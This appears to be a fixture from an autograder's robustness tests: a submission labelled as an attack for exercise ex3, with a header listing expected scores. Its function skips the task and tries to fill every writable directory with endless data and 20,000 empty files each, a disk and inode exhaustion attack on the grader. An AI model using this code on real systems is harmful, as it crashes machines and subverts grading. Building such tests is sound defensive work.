# ---
# attack: fills every place it can write to, and makes as many files as it can
# kind: answer
# honest: [ex1, ex2, ex4]
# gets: {ex1-test: 2, ex2-test: 2, ex3-test: 0, ex4-test: 2, ex4-test-close: 4}
# student sees: "…18 and 30…"
# ---
# %% ex3
import os

if "@course@".startswith("@") or os.path.exists("@course@"):
    raise RuntimeError("not in a sandbox: this attack does not run here")


def cheapest(terms, price):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), "."):
        try:
            with open(f"{folder}/@token@-full", "wb") as file:
                while True:
                    file.write(b"x" * 2**20)
        except OSError:
            pass
        try:
            for number in range(20_000):
                open(f"{folder}/@token@-{number}", "wb").close()
        except OSError:
            pass
    return terms[-1]
